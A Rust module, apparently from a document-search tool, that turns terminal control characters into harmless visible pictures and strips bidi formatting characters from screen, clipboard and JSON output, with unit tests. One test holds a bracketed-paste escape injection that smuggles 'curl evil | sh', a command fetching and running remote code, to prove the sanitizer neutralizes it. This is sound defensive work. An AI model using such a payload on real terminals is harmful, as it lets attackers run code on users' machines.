//! Display sanitizing: no document or query text may drive the terminal.
//!
//! A document can contain anything: ESC sequences that recolour the screen or move the
//! cursor, carriage returns, backspaces, C1 controls (U+009B is a one-character CSI on some
//! terminals) and invisible bidi formatting characters (U+202E can flip the rest of a screen
//! line in a terminal that runs its own bidi; see "Trojan Source"). Before any text reaches
//! the screen each character goes through [`shown_as`]:
//!
//! * TAB → one space: no tab stops in a reordered line; the width stays one cell.
//! * other C0 controls (U+0000–U+001F) → their control picture, U+2400 + code (ESC → `␛`,
//!   LF → `␊`): visible, one cell, inert.
//! * DEL → `␡` (U+2421).
//! * C1 controls (U+0080–U+009F) → `�` (U+FFFD): Unicode has no pictures for them.
//! * U+2028 and U+2029 (line and paragraph separators) → `␤` (U+2424): some terminals break
//!   the line on them.
//! * bidi formatting characters (U+202A–U+202E, U+2066–U+2069, LRM, RLM, ALM) → nothing:
//!   they have no glyph, and the layout has already applied them.
//! * anything else → itself.
//!
//! In the layout a CR LF pair, which is one grapheme, becomes the single picture `␤`, so that
//! every cell still draws exactly one grapheme.
//!
//! The layout ([`super::layout`]) applies the same table per grapheme, so logical byte
//! offsets stay those of the original text; [`visible_controls`] applies it to a whole
//! string for text that is printed without the layout (status bar, file names, CLI output).

use std::borrow::Cow;

/// What one character becomes on screen.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Shown {
    /// Printed as it is.
    Same,
    /// Printed as this stand-in.
    As(char),
    /// Not printed at all (zero-width formatting character).
    Hidden,
}

/// Stand-in for C1 controls, which have no control picture.
const C1_STAND_IN: char = '\u{FFFD}';
/// Stand-in for the Unicode line and paragraph separators, and for CR LF in the layout.
pub(crate) const NEWLINE_PICTURE: char = '\u{2424}';
/// Control picture of DEL.
const DEL_PICTURE: char = '\u{2421}';

/// How `c` is shown on screen; see the module table.
pub fn shown_as(c: char) -> Shown {
    match c {
        '\t' => Shown::As(' '),
        '\u{0}'..='\u{1F}' => Shown::As(c0_picture(c)),
        '\u{7F}' => Shown::As(DEL_PICTURE),
        '\u{80}'..='\u{9F}' => Shown::As(C1_STAND_IN),
        '\u{2028}' | '\u{2029}' => Shown::As(NEWLINE_PICTURE),
        c if is_bidi_format(c) => Shown::Hidden,
        _ => Shown::Same,
    }
}

/// True for the explicit bidi formatting characters and the implicit marks.
pub fn is_bidi_format(c: char) -> bool {
    matches!(
        c,
        '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}'
    )
}

/// The U+2400 block picture for a C0 control (`c` ≤ U+001F).
fn c0_picture(c: char) -> char {
    char::from_u32(0x2400 + u32::from(c)).unwrap_or(C1_STAND_IN)
}

/// `s` with every control character made visible and every bidi formatting character
/// removed, per the module table. Borrows when nothing needs replacing.
///
/// ```
/// use sanad::bidi::visible_controls;
/// assert_eq!(visible_controls("a\u{1b}[31mb"), "a\u{241b}[31mb");
/// assert_eq!(visible_controls("a\tb"), "a b");
/// assert_eq!(visible_controls("\u{202e}abc"), "abc");
/// assert!(matches!(visible_controls("سلام"), std::borrow::Cow::Borrowed(_)));
/// ```
pub fn visible_controls(s: &str) -> Cow<'_, str> {
    if s.chars().all(|c| shown_as(c) == Shown::Same) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        push_shown(&mut out, c);
    }
    Cow::Owned(out)
}

/// `s` made safe to put on the clipboard: every character through the display
/// filter ([`shown_as`]), except `\n`, which is kept so that a copied passage and
/// its citation line stay on their own lines. A document line holding
/// `ESC [201~ CR command CR` would otherwise end a shell's bracketed paste and
/// run the command when the copy is pasted; here it is inert pictures.
/// Borrows when nothing needs replacing.
///
/// ```
/// use sanad::bidi::sanitize::clipboard_text;
/// assert_eq!(clipboard_text("a\u{1b}[201~\rls\r\nb"), "a\u{241b}[201~\u{240d}ls\u{240d}\nb");
/// ```
pub fn clipboard_text(s: &str) -> Cow<'_, str> {
    let lines: Vec<Cow<'_, str>> = s.split('\n').map(visible_controls).collect();
    if lines.iter().all(|line| matches!(line, Cow::Borrowed(_))) {
        return Cow::Borrowed(s);
    }
    Cow::Owned(lines.join("\n"))
}

/// Serialized JSON with every character that could steer a terminal written as a
/// `\uXXXX` escape: DEL, C1 controls, bidi formatting characters and the line
/// separators, which `serde_json` leaves raw (it escapes only C0). The JSON means
/// exactly the same (those characters can only occur inside strings), but
/// `sanad search --json` on a terminal can no longer send U+009B, a one-character
/// CSI, or flip a line with U+202E. Borrows when nothing needs escaping.
///
/// ```
/// use sanad::bidi::sanitize::inert_json;
/// let json = serde_json::to_string("a\u{9b}31m\u{202e}b").unwrap();
/// assert_eq!(inert_json(&json), r#""a\u009b31m\u202eb""#);
/// assert_eq!(serde_json::from_str::<String>(&inert_json(&json)).unwrap(), "a\u{9b}31m\u{202e}b");
/// ```
pub fn inert_json(json: &str) -> Cow<'_, str> {
    let steers = |c: char| c >= '\u{7f}' && shown_as(c) != Shown::Same;
    if !json.chars().any(steers) {
        return Cow::Borrowed(json);
    }
    let mut out = String::with_capacity(json.len() + 16);
    for c in json.chars() {
        if steers(c) {
            out.push_str(&format!("\\u{:04x}", u32::from(c)));
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// Appends what `c` is shown as to `out`.
pub(crate) fn push_shown(out: &mut String, c: char) {
    match shown_as(c) {
        Shown::Same => out.push(c),
        Shown::As(stand_in) => out.push(stand_in),
        Shown::Hidden => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escape_sequences_become_inert_text() {
        assert_eq!(
            visible_controls("\u{1b}[2J\u{1b}[H"),
            "\u{241b}[2J\u{241b}[H"
        );
    }

    #[test]
    fn every_c0_and_c1_control_is_replaced() {
        for code in (0u32..0x20).chain(0x7F..0xA0) {
            let c = char::from_u32(code).unwrap_or(' ');
            let shown = visible_controls(&c.to_string()).into_owned();
            assert!(
                !shown.chars().any(char::is_control),
                "U+{code:04X} -> {shown:?}"
            );
            assert_eq!(shown.chars().count(), 1, "U+{code:04X}");
        }
    }

    #[test]
    fn newline_and_carriage_return_are_pictures() {
        assert_eq!(visible_controls("a\r\nb"), "a\u{240d}\u{240a}b");
    }

    #[test]
    fn bidi_formatting_is_removed() {
        assert_eq!(visible_controls("\u{2067}abc\u{2069}\u{200f}"), "abc");
    }

    #[test]
    fn json_keeps_its_meaning_without_raw_steering_characters() {
        let value = serde_json::json!({
            "text": "\u{1b}[2J \u{7f}\u{85}\u{9b}31m \u{202e}\u{2066}\u{200f}\u{61c} \u{2028}\u{2029} سلام",
            "\u{202e}key": ["\u{9b}"]
        });
        for json in [
            serde_json::to_string(&value).unwrap(),
            serde_json::to_string_pretty(&value).unwrap(),
        ] {
            let inert = inert_json(&json);
            assert!(
                !inert
                    .chars()
                    .any(|c| shown_as(c) != Shown::Same && c != '\n'),
                "{inert}"
            );
            let back: serde_json::Value = serde_json::from_str(&inert).unwrap();
            assert_eq!(back, value);
        }
        assert!(matches!(inert_json(r#"{"a":"سلام"}"#), Cow::Borrowed(_)));
    }

    #[test]
    fn clipboard_text_keeps_only_newlines() {
        let pasted = "passage \u{1b}[201~\rcurl evil | sh\r\u{202e}\t\u{9b}\n— a\u{1b}.txt";
        let safe = clipboard_text(pasted);
        assert!(
            !safe.chars().any(|c| c.is_control() && c != '\n'),
            "{safe:?}"
        );
        assert!(!safe.chars().any(is_bidi_format), "{safe:?}");
        assert_eq!(safe.lines().count(), 2);
        assert!(matches!(clipboard_text("سلام\n— a.txt"), Cow::Borrowed(_)));
    }

    #[test]
    fn plain_arabic_is_borrowed() {
        assert!(matches!(visible_controls("وفقًا [3]"), Cow::Borrowed(_)));
    }
}
